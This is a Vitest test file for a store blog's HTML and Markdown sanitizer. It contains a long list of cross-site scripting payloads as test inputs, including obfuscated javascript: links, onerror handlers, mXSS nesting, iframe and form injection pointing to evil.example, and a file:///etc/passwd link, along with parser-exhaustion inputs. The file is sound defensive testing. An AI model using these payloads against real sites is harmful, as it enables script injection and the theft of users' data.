// Long: the corpus of hostile markup sits beside the rules it tests.
import fc from 'fast-check';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { MemoryRouter } from 'react-router-dom';
import { describe, expect, test } from 'vitest';
import {
  articleMarkup,
  parseArticle,
  parseMarkdown,
  safeHref,
} from '../../domain/content/adminArticleHtml.ts';
import { type ArticleNode, articleNodeSchema, plainText } from '../../domain/content/article.ts';
import { ArticleBody } from '../../web/blog/ArticleBody.tsx';

/** The article after a round trip through the database and the API. */
const stored = (html: string) => JSON.parse(JSON.stringify(parseArticle(html))) as ArticleNode[];

/** The HTML that a reader's browser gets. */
function shown(html: string): string {
  const body = createElement(ArticleBody, { body: stored(html), title: 'An article' });
  const page = renderToStaticMarkup(createElement(MemoryRouter, null, body));
  return page.replace(/^<div class="art-body">/, '').replace(/<\/div>$/, '');
}

const ELEMENTS =
  'p h2 h3 ul ol li blockquote table caption thead tbody tr th td strong em a picture source img div span svg path'.split(
    ' ',
  );
const ATTRIBUTES =
  'class href rel src srcset srcSet sizes type alt width height loading decoding role aria-label aria-hidden focusable viewBox d data-discover'.split(
    ' ',
  );

/** Element and attribute names in markup that React wrote: it escapes every `<`, `>` and quote of a text. */
function namesIn(markup: string): { elements: Set<string>; attributes: Set<string>; links: string[] } {
  const elements = new Set<string>();
  const attributes = new Set<string>();
  const links: string[] = [];
  for (const [, name = '', rest = ''] of markup.matchAll(/<\/?([a-zA-Z0-9-]+)((?:\s[^<>]*)?)>/g)) {
    elements.add(name);
    for (const [, attribute = '', value = ''] of rest.matchAll(/([a-zA-Z-]+)(?:="([^"]*)")?/g)) {
      attributes.add(attribute);
      if (attribute === 'href' || attribute === 'src') links.push(value);
    }
  }
  return { elements, attributes, links };
}

function expectHarmless(markup: string): void {
  const { elements, attributes, links } = namesIn(markup);
  expect([...elements].filter((name) => !ELEMENTS.includes(name))).toEqual([]);
  expect([...attributes].filter((name) => !ATTRIBUTES.includes(name))).toEqual([]);
  expect(links.filter((link) => !/^(?:\/(?!\/)|https:\/\/|mailto:)/.test(link))).toEqual([]);
}

describe('ordinary article', () => {
  test('an article keeps headings, paragraphs, lists and emphasis', () => {
    const html =
      '<h2>Depth</h2>\n<p>Use <strong>3</strong> <em>inches</em>.</p>\n<ul><li>One</li><li>Two</li></ul>';
    expect(shown(html)).toBe(html);
  });

  test('an article keeps a table with its head and body', () => {
    const table =
      '<table><caption>Weights</caption><thead><tr><th>Mulch</th></tr></thead><tbody><tr><td>700 lb</td></tr></tbody></table>';
    expect(shown(table)).toBe(`<div class="art-scroll">${table}</div>`);
  });

  test('bare table rows and cells are put into a body, as browsers do', () => {
    expect(parseArticle('<table><tr><td>a</td></tr><td>b</td></table>')).toEqual(
      parseArticle('<table><tbody><tr><td>a</td></tr><tr><td>b</td></tr></tbody></table>'),
    );
  });

  test('an article links to a page of the store, to another site and to an email address', () => {
    expect(shown('<a href="/shop?q=mulch#a">Shop</a>')).toBe(
      '<a class="link" href="/shop?q=mulch#a" data-discover="true">Shop</a>',
    );
    expect(shown('<a href="https://tn811.com/">811</a>')).toBe(
      '<a class="link" href="https://tn811.com/" rel="noreferrer">811</a>',
    );
    expect(shown('<a href="mailto:yard@loamandaxle.example">Write</a>')).toContain(
      'href="mailto:yard@loamandaxle.example"',
    );
  });

  test('an article shows the store’s own pictures, by name or by path', () => {
    for (const src of ['hardwood-mulch', '/pictures/studio/hardwood-mulch-800.webp']) {
      expect(parseArticle(`<img src="${src}">`)).toEqual([{ tag: 'img', slug: 'hardwood-mulch' }]);
      expect(shown(`<img src="${src}">`)).toContain('/pictures/studio/hardwood-mulch-');
    }
  });

  test('entities are decoded once', () => {
    expect(shown('<p>Loam &amp; Axle, &frac12; in, &#8211; &amp;lt;b&amp;gt;</p>')).toBe(
      '<p>Loam &amp; Axle, ½ in, – &amp;lt;b&amp;gt;</p>',
    );
  });

  test('an unclosed element ends with the text', () => {
    expect(shown('<p>Half a <strong>thought')).toBe('<p>Half a <strong>thought</strong></p>');
  });

  test('search engines get plain text', () => {
    expect(plainText(parseArticle('<h2>Depth</h2><p>Three <em>inches</em></p>'))).toBe('Depth Three inches');
  });
});

describe('hostile article', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script>alert(1)',
    '<style>body{display:none}</style>',
    '<img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    '<img src="https://evil.example/pixel.gif">',
    '<img src="/pictures/../api/orders">',
    '<svg onload=alert(1)><a href="javascript:alert(1)">x</a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p onclick="alert(1)" style="position:fixed" id="main" class="btn">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" \u0001javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="blob:https://store.invalid/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="http://evil.example">x</a>',
    '<a href="https://store@evil.example/">x</a>',
    '<a href="/..//evil.example">x</a>',
    '<a href="https://ok.example" onmouseover="alert(1)" target="_top" ping="https://evil.example">x</a>',
    '<a href="https://ok.example"\nhref="javascript:alert(1)">x</a>',
    '<p title="</p><script>alert(1)</script>">x</p>',
    "<p title='><img src=x onerror=alert(1)>'>x</p>",
    '<!--><script>alert(1)</script>-->',
    '<!-- --!><script>alert(1)</script>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml version="1.0"?><script>alert(1)</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><script>alert(1)</script></template>',
    '<textarea></textarea><script>alert(1)</script>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<p>\0<scr\0ipt>alert(1)</script></p>',
    '</p></div></body><script>alert(1)</script>',
    '<p __proto__="x" constructor="y">z</p><constructor>w</constructor><__proto__>v</__proto__>',
  ])('hostile markup is rendered harmless: %s', (html) => {
    expectHarmless(shown(html));
  });

  test('scripts are removed and their surrounding text is kept', () => {
    expect(shown('<p>Before<script>alert("x")</script> <blink>and</blink> after</p>')).toBe(
      '<p>Before and after</p>',
    );
    expect(shown('<div><h1>Title</h1><p>Text</p></div>')).toBe('  Title <p>Text</p> ');
    expect(shown('<a href="javascript:alert(1)">Click</a>')).toBe('Click');
  });

  test('random markup is rendered harmless', () => {
    const piece = fc.constantFrom(
      ...'< > / " \' = & ; ! - -- <!-- --> </ /> <p> </p> <a <a> </a> href= href="/x" src= onerror= javascript: //'.split(
        ' ',
      ),
      ...'<ul> <li> </ul> <table> <tr> <td> </td> </table> <caption> <tbody> <blockquote> <strong> <h2> <br> <div>'.split(
        ' ',
      ),
      ...'<script> </script> <style> <svg> <img src=pea-gravel> &amp; &#60; &#x3c; &lt; \0 \n word'.split(
        ' ',
      ),
    );
    const anything = fc.uint16Array({ maxLength: 4 }).map((codes) => String.fromCharCode(...codes));
    const soup = fc.array(fc.oneof(piece, anything), { maxLength: 60 });
    fc.assert(
      fc.property(soup, (pieces) => {
        expectHarmless(shown(pieces.join('')));
        for (const node of stored(pieces.join(''))) articleNodeSchema.parse(node);
      }),
      { numRuns: 600 },
    );
  });

  test('random elements are nested as in a browser, and parse to the same tree again', () => {
    const tag = fc.constantFrom(
      ...'p h2 h3 ul ol li blockquote table caption thead tbody tr th td strong em'.split(' '),
    );
    const piece = fc.oneof(
      tag.map((name) => `<${name}>`),
      tag.map((name) => `</${name}>`),
      fc.constantFrom('word', ' ', '<a href="/shop">', '</a>', '<a href="https://tn811.com/">', '1 < 2'),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 50 }), (pieces) => {
        const tree = parseArticle(pieces.join(''));
        expectNested(tree);
        expect(parseArticle(written(tree))).toEqual(tree);
      }),
      { numRuns: 600 },
    );
  });

  test('deeply nested markup results in a shallow tree', () => {
    const deep = `${'<blockquote>'.repeat(50_000)}bottom`;
    expect(depthOf(parseArticle(deep))).toBeLessThan(30);
    expect(shown(deep)).toContain('bottom');
  });

  test.each([
    '<',
    '<a ',
    '<a "',
    '<a "\'',
    '<a \'"<b "\'<i ""',
    '<p x=',
    'x="',
    '<!--',
    '<script>',
    '&#',
    '<p',
    "<a x='",
    '<td>',
    '</',
    '<b>',
    '<svg>',
  ])('repeated %s does not stop the parser before the end', (piece) => {
    expect(JSON.stringify(parseArticle(`<p>top</p>${piece.repeat(20_000 / piece.length)}`))).toContain('top');
  });
});

describe('link addresses', () => {
  test.each([
    ['/shop', '/shop'],
    ['shop', '/blog/shop'],
    ['../faq#fee', '/faq#fee'],
    ['https://tn811.com/ticket', 'https://tn811.com/ticket'],
    ['mailto:yard@loamandaxle.example', 'mailto:yard@loamandaxle.example'],
    ['', undefined],
    ['   ', undefined],
    ['javascript:alert(1)', undefined],
    ['tel:+16155550142', undefined],
    ['http://tn811.com', undefined],
    ['https://', undefined],
  ])('the link %s becomes %s', (written, expected) => {
    expect(safeHref(written)).toBe(expected);
  });
});

describe('entities', () => {
  test.each([
    ['&amp;amp;', '&amp;'],
    ['&unknown;', '&unknown;'],
    ['&#0;&#55296;&#x110000;', '\ufffd\ufffd\ufffd'],
    ['5 &lt; 6 & 7', '5 < 6 & 7'],
    ['&Prime;&prime;', '″′'],
  ])('the text %s is decoded to %s', (written, expected) => {
    expect(plainText(parseArticle(`<p>${written}</p>`))).toBe(expected);
  });
});

const HOMES: Readonly<Record<string, readonly string[]>> = {
  li: ['ul', 'ol'],
  tr: ['thead', 'tbody'],
  td: ['tr'],
  th: ['tr'],
  caption: ['table'],
  thead: ['table'],
  tbody: ['table'],
};
const NO_BLOCKS = ['p', 'h2', 'h3', 'caption', 'strong', 'em', 'a'];
const BLOCKS = ['p', 'h2', 'h3', 'ul', 'ol', 'blockquote', 'table'];
const NO_TEXT = ['ul', 'ol', 'table', 'thead', 'tbody', 'tr'];

function expectNested(nodes: readonly ArticleNode[], parents: readonly string[] = []): void {
  const parent = parents.at(-1) ?? '';
  for (const node of nodes) {
    if (typeof node === 'string') {
      expect(NO_TEXT).not.toContain(parent);
      continue;
    }
    if (node.tag === 'img') continue;
    const homes = HOMES[node.tag];
    if (homes) expect(homes).toContain(parent);
    if (BLOCKS.includes(node.tag)) expect(NO_BLOCKS).not.toContain(parent);
    if (node.tag === 'a') expect(parents).not.toContain('a');
    expectNested(node.children, [...parents, node.tag]);
  }
}

function written(nodes: readonly ArticleNode[]): string {
  return nodes
    .map((node) => {
      if (typeof node === 'string') return node.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
      if (node.tag === 'img') return `<img src="${node.slug}">`;
      return `<${node.tag}${node.href ? ` href="${node.href}"` : ''}>${written(node.children)}</${node.tag}>`;
    })
    .join('');
}

function depthOf(nodes: readonly ArticleNode[]): number {
  const depths = nodes.map((node) =>
    typeof node === 'string' || node.tag === 'img' ? 1 : 1 + depthOf(node.children),
  );
  return Math.max(0, ...depths);
}

describe('stored article', () => {
  const markup = (html: string) => articleMarkup(parseArticle(html));
  const pieces = fc.array(
    fc.oneof(
      fc.constantFrom(...ELEMENTS.map((tag) => `<${tag}>`), ...ELEMENTS.map((tag) => `</${tag}>`)),
      fc.constantFrom('<a href="/shop?a=1&amp;b=2">', '<img src="pea-gravel">', '&lt;', '&amp;lt;', '&quot;'),
      fc.string(),
    ),
  );

  test('stored markup parses to the same article again', () => {
    fc.assert(
      fc.property(pieces, (parts) => {
        const first = parseArticle(parts.join(''));
        expect(parseArticle(articleMarkup(first))).toEqual(first);
      }),
      { numRuns: 300 },
    );
  });

  test('stored markup escapes text, and only links and pictures have attributes', () => {
    expect(
      markup(
        '<p class="x">a &lt;b&gt; "c"</p><a href="/x?a=1&b=2">d</a><img src="/pictures/studio/pea-gravel-800.avif">',
      ),
    ).toBe('<p>a &lt;b&gt; "c"</p><a href="/x?a=1&amp;b=2">d</a><img src="pea-gravel">');
    expect(markup('<ul><li>One<li>Two</ul>')).toBe('<ul>\n<li>One</li>\n<li>Two</li>\n</ul>');
  });
});

describe('Markdown', () => {
  test.each([
    ['# Clay', '<h2>Clay</h2>'],
    ['## Clay', '<h2>Clay</h2>'],
    ['#### Clay', '<h3>Clay</h3>'],
    ['It **crumbles**, *soon*.', '<p>It <strong>crumbles</strong>, <em>soon</em>.</p>'],
    ['1. Rake\n2. Water', '<ol><li>Rake</li><li>Water</li></ol>'],
    ['> Wait.', '<blockquote><p>Wait.</p></blockquote>'],
    ['[Shop](/shop) [x](javascript:alert(1))', '<p><a href="/shop">Shop</a> x</p>'],
    ['![](hardwood-mulch)', '<p><img src="hardwood-mulch"></p>'],
    ['![Tracks you](https://evil.example/a.png)', '<p></p>'],
    [
      '| Mulch | Lasts |\n| --- | --- |\n| Cedar | 2 years |',
      '<table><thead><tr><th>Mulch</th><th>Lasts</th></tr></thead><tbody><tr><td>Cedar</td><td>2 years</td></tr></tbody></table>',
    ],
    ['Hi <script>alert(1)</script><b onclick="x()">there</b>', '<p>Hi <strong>there</strong></p>'],
    ['`let x` & <3', '<p>let x &amp; &lt;3</p>'],
  ])('%j', (text, html) => {
    expect(articleMarkup(parseMarkdown(text)).replaceAll('\n', '')).toBe(html);
  });
});
